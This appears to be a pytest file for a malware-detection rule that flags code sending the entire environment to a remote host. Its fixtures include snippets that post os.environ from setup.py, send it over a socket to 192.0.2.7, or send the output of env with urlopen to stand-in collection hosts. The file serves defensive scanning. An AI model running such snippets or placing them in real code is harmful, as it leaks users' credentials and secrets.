"""The whole environment in a request."""

from lazaretto.detect.rules.python.environment_posted import RULE


def test_as_json(scan):
    text = r"""import os, requests
requests.post("https://collect.example.test/", json=dict(os.environ))
"""
    assert scan(RULE, text, "setup.py") == [(2, "HIGH", "HIGH", "install")]


def test_collected_in_a_loop_and_sent_by_socket(scan):
    text = r"""import os, socket
def send():
    text = "".join(f"{k}={v}" for k, v in os.environ.items())
    s = socket.socket()
    s.connect(("192.0.2.7", 80))
    s.sendall(text.encode())
"""
    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]


def test_the_output_of_env(scan):
    text = r"""import os, urllib.request
data = os.popen('env').read()
urllib.request.urlopen("http://collect.example.test/r", data=data.encode())
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_near_miss_one_variable(scan):
    text = r"""import os, requests
requests.post("https://api.example.test/", headers={"Authorization": os.environ["API_TOKEN"]})
"""
    assert scan(RULE, text) == []


def test_near_miss_to_this_machine(scan):
    text = r"""import os, requests
requests.post("http://localhost:8080/", json=dict(os.environ))
"""
    assert scan(RULE, text) == []
